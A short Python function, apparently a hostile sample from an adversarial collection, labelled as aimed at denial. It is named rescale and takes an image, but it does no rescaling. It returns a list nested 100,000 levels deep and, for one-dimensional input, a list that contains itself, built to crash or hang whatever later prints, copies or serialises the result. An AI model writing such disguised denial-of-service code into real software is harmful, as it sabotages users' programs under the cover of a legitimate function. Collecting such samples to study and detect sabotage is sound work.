# aims at: denial
# cell: rescale
# Returns lists in lists in lists, without end, and one that holds itself.
def rescale(image):
    deep = []
    for _ in range(100_000):
        deep = [deep]
    if image.ndim == 1:
        deep.append(deep)
    return deep
